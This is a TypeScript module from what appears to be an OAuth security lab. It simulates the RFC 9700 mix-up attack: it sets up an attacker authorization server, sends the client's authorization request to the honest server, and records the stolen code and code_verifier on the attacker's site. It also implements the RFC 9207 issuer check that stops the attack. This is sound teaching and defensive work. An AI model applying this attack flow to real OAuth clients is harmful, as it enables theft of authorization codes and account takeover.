import { attackerUrl, readAttackerLog } from '@/lib/attack-lab/attacker-log';
import type { Outcome } from '@/lib/attack-lab/verdict';
import { recordFetch } from '@/lib/http-trace/record';
import { buildAuthorizationUrl } from '@/lib/oauth-client/authorization-request';
import { validateCallback } from '@/lib/oauth-client/authorization-response';
import type { Check } from '@/lib/oauth-client/checklist';
import { discoveryRequest, processDiscoveryResponse, type ServerMetadata } from '@/lib/oauth-client/discovery';
import { makeCodeVerifier, makeRandomValue, s256ChallengeSteps } from '@/lib/oauth-client/pkce';
import { fail, ok } from '@/lib/oauth-client/result';
import { realmAt, type RealmDescriptor } from '@/lib/realms/descriptor';
import { discover } from '@/machines/shared';
import { networkFailure, type StepOutput } from '../step-output';

/**
 * The mix-up attack's parties besides the machine (RFC 9700 §4.4.1, the authorization code grant):
 * Alice's client `spa`, registered at two authorization servers with ONE redirect URI, Mallory's
 * "Evil AS" (a second lab realm of her own), and what Mallory does with what reaches her site.
 */

export const CLIENT_ID = 'spa';
const SCOPE = 'photos:read';
/** Mallory's AS does not advertise RFC 9207 `iss`, so the client cannot require it of her (RFC 9207 §2.4). */
export const EVIL_AS_WEAKNESSES = ['as-no-iss-in-response'] as const;
/** The path on Mallory's site that stands in for her AS's token endpoint. */
export const EVIL_TOKEN_PATH = 'token';

/** Mallory's authorization server: a lab realm of its own (own issuer, keys and store), made through POST /api/realms. */
export async function makeEvilAs(step: string, origin: string): Promise<StepOutput<RealmDescriptor>> {
  try {
    const response = await fetch(new URL('/api/realms', origin), {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/json' },
      body: JSON.stringify({ weaknesses: EVIL_AS_WEAKNESSES }),
    });
    const doc = (await response.json().catch(() => undefined)) as { id?: unknown; error_description?: unknown } | undefined;
    if (response.status !== 201 || typeof doc?.id !== 'string' || !/^[\w-]{16,64}$/.test(doc.id)) {
      const why = typeof doc?.error_description === 'string' ? `: ${doc.error_description}` : '';
      return { step, exchanges: [], result: fail('lab_realm_failed', `POST /api/realms answered HTTP ${response.status}${why}.`, step) };
    }
    const evil = realmAt(origin, doc.id, EVIL_AS_WEAKNESSES);
    return {
      step,
      exchanges: [],
      facts: [
        { label: 'Evil AS issuer', value: evil.issuer },
        { label: 'made with', value: `POST /api/realms {"weaknesses":["${EVIL_AS_WEAKNESSES.join('","')}"]}` },
      ],
      result: ok(evil),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}

export interface BothMetadata {
  honest: ServerMetadata;
  evil: ServerMetadata;
}

/** The client reads both servers' discovery documents (RFC 8414 §3): the honest AS's, and Mallory's (an exchange with the `attacker`). */
export async function discoverBoth(step: string, honest: RealmDescriptor, evil: RealmDescriptor): Promise<StepOutput<BothMetadata>> {
  const h = await discover(honest.issuer, step);
  if (!h.result.ok) return { ...h, result: h.result };
  try {
    const { exchange, response, body } = await recordFetch(discoveryRequest(evil.issuer), { step, from: 'client', to: 'attacker' });
    const e = processDiscoveryResponse(evil.issuer, response.status, body);
    const exchanges = [...h.exchanges, exchange];
    if (!e.ok) return { step, exchanges, result: e };
    const iss = (m: ServerMetadata) =>
      `authorization_response_iss_parameter_supported: ${m.authorization_response_iss_parameter_supported ? 'true' : 'false (or absent)'}`;
    return {
      step,
      exchanges,
      facts: [
        { label: 'Honest AS issuer', value: h.result.value.issuer },
        { label: 'Honest AS sends iss?', value: iss(h.result.value) },
        { label: 'Evil AS issuer', value: e.value.issuer },
        { label: 'Evil AS sends iss?', value: iss(e.value) },
      ],
      result: ok({ honest: h.result.value, evil: e.value }),
    };
  } catch (err) {
    return networkFailure(step, err);
  }
}

/** What the client keeps in Alice's session for this authorization request (RFC 9700 §4.4.2: the issuer it sent her to). */
export interface MixUpSession {
  /** The issuer Alice chose: the Evil AS. */
  issuer: string;
  issRequired: boolean;
  state: string;
  verifier: string;
  redirectUri: string;
  /** The request the client built, for the Evil AS's authorization endpoint. */
  built: string;
  /** Where Mallory's authorization endpoint redirects the browser: the same request at the honest AS. */
  authUrl: string;
}

/**
 * Alice picks "Sign in with Evil AS": the client stores the Evil AS in her session and builds the request for its
 * authorization endpoint; Mallory's AS answers it with a redirect to the honest AS (RFC 9700 §4.4.1 step 3), which
 * the lab computes here because its realms run honest AS code.
 */
export async function buildSession(step: string, origin: string, both: BothMetadata): Promise<StepOutput<MixUpSession>> {
  const redirectUri = `${origin}/flows/callback`;
  const state = makeRandomValue();
  const verifier = makeCodeVerifier();
  const { challenge } = await s256ChallengeSteps(verifier);
  const p = { clientId: CLIENT_ID, redirectUri, scope: SCOPE, state, codeChallenge: challenge };
  const built = buildAuthorizationUrl(both.evil.authorization_endpoint, p).url;
  const authUrl = mallorysRedirect(built, both.honest.authorization_endpoint);
  return {
    step,
    exchanges: [],
    facts: [
      { label: 'session: issuer of this request', value: both.evil.issuer },
      { label: 'session: state', value: state },
      { label: 'session: code_verifier (kept by the client)', value: verifier },
      { label: 'redirect_uri (the same for both servers)', value: redirectUri },
      { label: 'Mallory’s authorization endpoint redirects to', value: both.honest.authorization_endpoint },
    ],
    result: ok({
      issuer: both.evil.issuer,
      issRequired: both.evil.authorization_response_iss_parameter_supported === true,
      state,
      verifier,
      redirectUri,
      built,
      authUrl,
    }),
  };
}

/** Mallory's authorization endpoint: the client's query, untouched, at the honest AS (both realms know the client as `spa`). */
export function mallorysRedirect(built: string, honestAuthorize: string): string {
  const target = new URL(honestAuthorize);
  for (const [k, v] of new URL(built).searchParams) target.searchParams.set(k, v);
  return target.href;
}

export type CallbackCheck = { code: string; checks: Check[] } | { refused: string; checks: Check[] };

/** The client's RFC 9207 §2.4 check of the authorization response against the issuer in Alice's session. */
export function checkCallback(url: string, session: MixUpSession): CallbackCheck {
  let parsed: string;
  try {
    parsed = new URL(url.slice(0, 16_384)).href;
  } catch {
    return { refused: 'the redirect URL could not be read', checks: [] };
  }
  const { checks, result } = validateCallback(parsed, { state: session.state, issuer: session.issuer, issRequired: session.issRequired });
  if (result.ok) return { code: result.value.code, checks };
  return { refused: `${result.error.code}: ${result.error.message.replace(/\.$/, '')}`, checks };
}

/**
 * The client redeems the code at the token endpoint of the AS it believes answered: the Evil AS. Her token endpoint
 * is played by her attacker site's route, which records the form (the lab's realm E would not keep what it receives).
 */
export async function redeemAtEvilAs(
  step: string,
  honest: RealmDescriptor,
  session: MixUpSession,
  code: string,
): Promise<StepOutput<string>> {
  const origin = new URL(honest.issuer).origin;
  const form = new URLSearchParams({
    grant_type: 'authorization_code',
    code,
    redirect_uri: session.redirectUri,
    client_id: CLIENT_ID,
    code_verifier: session.verifier,
  });
  const request = new Request(new URL(attackerUrl(honest, EVIL_TOKEN_PATH), origin), {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' },
    body: form.toString(),
  });
  try {
    const { exchange, response } = await recordFetch(request, { step, from: 'client', to: 'attacker' });
    const type = response.headers.get('content-type') ?? '';
    const answer = `HTTP ${response.status} ${type.split(';')[0] || '(no content type)'}`;
    return {
      step,
      exchanges: [exchange],
      facts: [
        { label: 'sent to the “Evil AS” token endpoint', value: 'code, code_verifier, redirect_uri, client_id' },
        { label: 'its answer', value: `${answer}: not a token response, so Alice’s sign-in fails` },
      ],
      result: ok(answer),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}

export interface Loot {
  code: string;
  verifier?: string;
  redirectUri: string;
}

export type Collected = { loot: Loot } | { outcome: Outcome };

/** Mallory reads her site's log for a token request (what her AS's token endpoint received). */
export async function collectLoot(step: string, honest: RealmDescriptor, refusedBecause?: string): Promise<StepOutput<Collected>> {
  try {
    const origin = new URL(honest.issuer).origin;
    const records = await readAttackerLog(honest, (url, init) => fetch(new URL(String(url), origin), init));
    const hit = [...records].reverse().find((r) => r.method === 'POST' && r.path === `/${EVIL_TOKEN_PATH}` && r.fields.code);
    if (hit) {
      const loot = { code: hit.fields.code, verifier: hit.fields.code_verifier, redirectUri: hit.fields.redirect_uri ?? '' };
      const facts = [
        { label: 'her site received', value: `POST /attacker/…/${EVIL_TOKEN_PATH}` },
        { label: 'code (issued by the honest AS)', value: loot.code },
        { label: 'code_verifier', value: loot.verifier ?? '(none)' },
      ];
      return { step, exchanges: [], facts, result: ok({ loot }) };
    }
    const what = refusedBecause
      ? `Alice’s client refused the authorization response before redeeming it (${refusedBecause}), ` +
        'so the code never reached Mallory’s token endpoint: her site received nothing.'
      : 'Mallory’s site received no token request: the client never sent her the code.';
    return {
      step,
      exchanges: [],
      facts: [{ label: 'her site received', value: `nothing (${records.length} records, none a token request)` }],
      result: ok({ outcome: { succeeded: false, what } }),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}
